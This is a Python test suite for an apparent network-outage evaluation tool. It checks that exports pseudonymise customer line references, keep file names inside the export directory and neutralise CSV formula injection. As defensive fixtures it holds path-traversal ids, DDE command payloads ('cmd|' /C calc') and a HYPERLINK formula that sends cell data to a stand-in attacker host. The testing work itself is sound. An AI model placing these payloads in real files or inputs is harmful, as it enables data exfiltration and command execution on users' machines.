"""Exports: customer line references pseudonymised by default; file names stay inside the lake."""
from __future__ import annotations

import duckdb
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import _security_db
from evaluation.store import db, privacy
from evaluation.store.ingest import ingest
from evaluation.views.pages import PAGES

KEY = bytes.fromhex("ab" * 32)   # the planted database's pseudonym key
CLEAR = ("FI-OC1-LINE", "FI-OC2-LEAK", "FI-OC2-PM1-LEAK", "FI-TARGET-SECRET")


@pytest.fixture
def planted(tmp_path):
    return _security_db.build(tmp_path / "db.duckdb", tmp_path / "in")


def _lake_text(lake) -> str:
    """Every value of every Parquet file of the lake, as text."""
    con = duckdb.connect()
    out = []
    for f in sorted(lake.rglob("*.parquet")):
        out.append(str(con.execute("SELECT * FROM read_parquet(?)", [str(f)]).fetchall()))
    return "\n".join(out)


def _ptos(lake, table):
    con = duckdb.connect()
    return sorted(r[0] for r in con.execute(
        "SELECT pto FROM read_parquet(?, hive_partitioning=false)",
        [str(lake / table / "**" / "*.parquet")]).fetchall())


def test_export_pseudonymises_pto_by_default(planted, tmp_path, run_cli):
    lake = tmp_path / "lake"
    code, _, err = run_cli("--db", str(planted), "export", "--to", str(lake))
    assert code == 0, err
    text = _lake_text(lake)
    for clear in CLEAR:
        assert clear not in text
    # The same keyed hash as the dashboards and the audit log: HMAC-SHA256 under the db key.
    assert _ptos(lake, "outages") == sorted(privacy.pseudonym(p, KEY, "PTO")
                                            for p in ("FI-OC1-LINE", "FI-OC2-LEAK", "FI-OC2-PM1-LEAK"))
    assert _ptos(lake, "intervention_targets") == [privacy.pseudonym("FI-TARGET-SECRET", KEY, "PTO")]
    assert "PM1" in text and "OC02" in text             # other columns are untouched


def test_no_pseudonymise_exports_references_in_clear(planted, tmp_path, run_cli):
    lake = tmp_path / "lake"
    code, _, err = run_cli("--db", str(planted), "export", "--to", str(lake), "--no-pseudonymise")
    assert code == 0, err
    assert _ptos(lake, "intervention_targets") == ["FI-TARGET-SECRET"]


def test_export_creates_a_key_once_and_pseudonyms_stay_stable(planted, tmp_path, run_cli):
    con = duckdb.connect(str(planted))
    con.execute("DELETE FROM meta WHERE key = 'pseudonym_key'")
    con.close()
    for n in (1, 2):
        assert run_cli("--db", str(planted), "export", "--to", str(tmp_path / f"l{n}"))[0] == 0
    first, second = _ptos(tmp_path / "l1", "outages"), _ptos(tmp_path / "l2", "outages")
    assert first == second and all(p.startswith("PTO-") for p in first)
    con = db.connect(planted, read_only=True)
    key = bytes.fromhex(db.get_setting(con, "pseudonym_key"))
    con.close()
    assert key != KEY and privacy.pseudonym("FI-OC1-LINE", key, "PTO") in first


HOSTILE_PMS = ["../../escape", "a/b", "null", "..", "%2e%2e", "PM 1", ".hidden", "_x", "C:\\x"]


def test_export_file_names_never_leave_the_lake(tmp_path, run_cli):
    """Ids become directory names only when safe; hostile ids stay column values."""
    path = tmp_path / "db.duckdb"
    con = db.connect(path)
    rows = "\n".join(f'"{pm}",OI01,1' for pm in HOSTILE_PMS)
    (tmp_path / "pms.csv").write_text("pm_id,oi_code,lines\n" + rows + "\n")
    cuts = "\n".join(f'OC01,"{pm}",FI-{i},2024-03-0{1 + i % 9} 10:00'
                     for i, pm in enumerate(HOSTILE_PMS))
    (tmp_path / "outages.csv").write_text("code_oc,pm_id,pto,cut_at\n" + cuts + "\n")
    assert ingest(con, "pms", [tmp_path / "pms.csv"], strict=True)
    assert ingest(con, "outages", [tmp_path / "outages.csv"], strict=True)
    con.close()
    lake = tmp_path / "out" / "lake"
    code, _, err = run_cli("--db", str(path), "export", "--to", str(lake),
                           "--min-rows-per-partition", "1")
    assert code == 0, err
    everything = {p.resolve() for p in (tmp_path / "out").rglob("*")}
    assert all(p.is_relative_to(lake.resolve()) for p in everything)
    names = {p.name for p in lake.rglob("*")}
    assert not any(n.startswith("pm_id=") for n in names)   # hostile ids: no id partition
    assert not (tmp_path / "escape").exists() and not (tmp_path / "out" / "escape").exists()
    con = duckdb.connect()
    got = sorted(r[0] for r in con.execute(
        "SELECT pm_id FROM read_parquet(?, hive_partitioning=false)",
        [str(lake / "outages" / "**" / "*.parquet")]).fetchall())
    assert got == sorted(HOSTILE_PMS)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=60))
def test_report_file_names_from_system_ids_stay_plain_names(system_id):
    """`opeval evaluate --out DIR` and the /evaluation download name files after system ids."""
    from pathlib import Path

    from evaluation.reports.evaluation import safe_name

    name = f"evaluation-{safe_name(system_id)}.html"
    assert Path(name).name == name and name not in (".", "..")
    assert not any(ch in name for ch in "/\\\x00:")


# ------------------------------------------------------------------ formula injection (issue #14, 7)

FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"open")'
TRIGGERED = ["=1+1", "+33 1 23 45", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1", "\r=1",
             "\0x"]


def _cells(data: bytes | str) -> list[str]:
    import csv
    import io
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _no_formula(data: bytes | str) -> None:
    from evaluation.csv_export import TRIGGERS
    bad = [c for c in _cells(data) if c.startswith(TRIGGERS)]
    assert not bad, bad


def test_neutralise_follows_owasp():
    """OWASP CSV Injection: a cell starting with =, +, -, @, tab or carriage return (and NUL,
    ASVS 1.2.10) gets a leading single quote; anything else, numbers included, is left as
    it is; every text cell is quoted, so "x;=1" (a French spreadsheet splits on ";") and
    "x<CR>=1" (a bare carriage return ends a row) stay one cell. Worked by hand, cell by
    cell; read back through Python's csv module."""
    from evaluation.csv_export import neutralise, to_csv

    for value in TRIGGERED:
        assert neutralise(value) == "'" + value
    for value in ["a=b", "PM-1", "", " =1", "'=1", "FI-1234", "x\r"]:
        assert neutralise(value) == value
    assert neutralise(-5) == -5 and neutralise(None) is None and neutralise(2.5) == 2.5
    frame = pd.DataFrame({"text": TRIGGERED + ["plain"], "n": [-1, -2, 3, 4, 5, 6, 7, -8]})
    text = to_csv(frame)
    cells = _cells(text)
    assert cells[:2] == ["text", "n"]
    assert cells[2::2] == ["'" + v for v in TRIGGERED] + ["plain"]
    assert cells[3::2] == ["-1", "-2", "3", "4", "5", "6", "7", "-8"]   # numbers stay numbers
    assert to_csv(iter([frame.iloc[:2], frame.iloc[2:]])) == text       # parts: one header
    split = to_csv(pd.DataFrame({"t": ["x;=1", "x\r=1", 'say "=1"'], "n": [1, 2, 3]}))
    assert split == '"t","n"\n"x;=1",1\n"x\r=1",2\n"say ""=1""",3\n'


def _hostile_network(path, workdir):
    """Six PMs, 30 interventions each, one a day; the PM called FORMULA has a cut in 25 of
    its windows (the blacklist's candidate), the five "+OK<i>" PMs in one each."""
    from conftest import load_csv_texts

    pm_ids = [FORMULA] + [f"+OK{i}" for i in range(5)]
    rows = {k: [] for k in ("pms", "interventions", "outage_reports", "outages")}
    for p, pm in enumerate(pm_ids):
        rows["pms"].append(f'"{pm.replace(chr(34), 2 * chr(34))}",OI01,200,@zone')
        for d in range(30):
            ref, day = f"OI-{p}-{d:02d}", f"2025-04-{1 + d:02d}"
            rows["interventions"].append(f'{ref},D00{p},OI01,"{pm.replace(chr(34), 2 * chr(34))}",'
                                         f"{day} 10:00,{day} 10:30")
            hit = d < 25 if p == 0 else d == 0
            rows["outage_reports"].append(f"{ref},OC01,{day} 12:00,{int(hit)}")
            if hit:
                rows["outages"].append(f'OC01,"{pm.replace(chr(34), 2 * chr(34))}",FI-{p}-{d},'
                                       f"{day} 10:10,{ref}")
    con = db.connect(path)
    load_csv_texts(con, workdir, {
        "pms": "pm_id,oi_code,lines,zone\n" + "\n".join(rows["pms"]) + "\n",
        "interventions": "ref_interv_oi,code_do,code_oi,pm_id,started_at,ended_at\n"
                         + "\n".join(rows["interventions"]) + "\n",
        "outage_reports": "ref_interv_oi,code_oc,received_at,clients_hs\n"
                          + "\n".join(rows["outage_reports"]) + "\n",
        "outages": "code_oc,pm_id,pto,cut_at,ref_interv_oi\n" + "\n".join(rows["outages"]) + "\n"})
    con.close()
    return path


@pytest.mark.parametrize("command", ["outages", "blacklist"])
def test_cli_csv_neutralises_formulas(tmp_path, run_cli, command):
    """`opeval outages|blacklist --format csv`: the PM reference FORMULA (as another operator
    sent it) comes out as '=HYPERLINK(... and no cell of the file starts a formula."""
    path = _hostile_network(tmp_path / "db.duckdb", tmp_path / "in")
    code, out, err = run_cli("--db", str(path), command, "--format", "csv")
    assert code == 0, err
    _no_formula(out)
    assert "'" + FORMULA in _cells(out)
    if command == "outages":
        assert "'+OK0" in _cells(out)


def test_page_csv_writers_neutralise_formulas(tmp_path):
    """Each CSV writer of the pages: a table held as a frame (layout.frame_csv), a query
    streamed from the store (ReadOnlyStore.csv: the quarantine, raw line "=1+1,…"), the
    alarm history (AlarmsState.history_csv: the comment) and the evaluation's tables
    (EvaluationState.csv)."""
    from evaluation.views.alarms_state import AlarmsState
    from evaluation.views.evaluation_state import EvaluationState
    from evaluation.views.layout import frame_csv
    from evaluation.views.queries import ReadOnlyStore

    path = tmp_path / "db.duckdb"
    con = db.connect(path)
    con.execute("INSERT INTO systems (system_id, name) VALUES ('S1', '=1+1')")
    con.execute("INSERT INTO alarms (alarm_id, system_id, definition, resource_id, raised_at, "
                "comment) VALUES ('A1', 'S1', 'door_forced', 'D1', TIMESTAMP '2024-03-01 10:00', "
                "?)", ["@SUM(1+1)*cmd|' /C calc'!A0"])
    bad = tmp_path / "systems.csv"
    bad.write_text("system_id,name\n=1+1,a,too many\n")
    ingest(con, "systems", [bad])
    con.close()
    made = frame_csv(lambda: pd.DataFrame({"name": ["=1+1"], "n": [-1]}))()
    assert _cells(made) == ["name", "n", "'=1+1", "-1"]
    store = ReadOnlyStore(path)
    quarantine = store.csv("SELECT raw FROM quarantine")
    assert _cells(quarantine) == ["raw", "'=1+1,a,too many"]
    state = AlarmsState(path)
    state.history_definition = "door_forced"
    history = state.history_csv()
    _no_formula(history)
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in _cells(history)
    evaluation = EvaluationState.csv(store.df("SELECT system_id, name FROM systems"))
    assert _cells(evaluation) == ["system_id", "name", "S1", "'=1+1"]


def test_every_download_of_every_page_is_neutralised(tmp_path):
    """Every download of every page (admin), on the planted database plus hostile text in
    a system name, an alarm comment, a PM's zone, a KO message (its DO reference and
    label) and a rejected raw line: no cell of any file starts a formula, and the hostile
    values are there, quoted, where the files show them (the KO answers, the answer
    counts, the quarantine)."""
    import _security_db
    from evaluation import serve
    from test_security_access import _served

    path = _security_db.build(tmp_path / "db.duckdb", tmp_path / "in")
    con = db.connect(path)
    con.execute("UPDATE systems SET name = '=1+1' WHERE system_id = 'S1'")
    con.execute("UPDATE alarms SET comment = '@SUM(A1)' WHERE alarm_id = 'A2'")
    con.execute("UPDATE pms SET zone = '+Z1' WHERE pm_id = 'PM1'")
    con.execute("INSERT INTO messages VALUES (99, 0, 2, 'M1', TIMESTAMP '2024-03-05 09:02', "
                "'DOXA', ?, NULL, NULL, 3, '@KO', 'bad', 'rejected', NULL)", [FORMULA])
    bad = tmp_path / "rejected.csv"
    bad.write_text("system_id,name\n=cmd|' /C calc'!A0,a,b\n")
    ingest(con, "systems", [bad])
    con.close()
    seen: dict[str, bytes] = {}
    for page_path in PAGES:
        _, downloads = _served(serve.build_page(page_path, path))
        for name, data in downloads.items():
            if name.endswith(".pdf"):
                continue        # a printed report, not a file a spreadsheet opens
            _no_formula(data)
            seen[f"{page_path} {name}"] = data
    everything = b"\n".join(seen.values())
    for value in ["'=cmd|' /C calc'!A0", "'" + FORMULA.replace('"', '""'), "'@KO"]:
        assert value.encode() in everything, value
    assert len(seen) >= 10
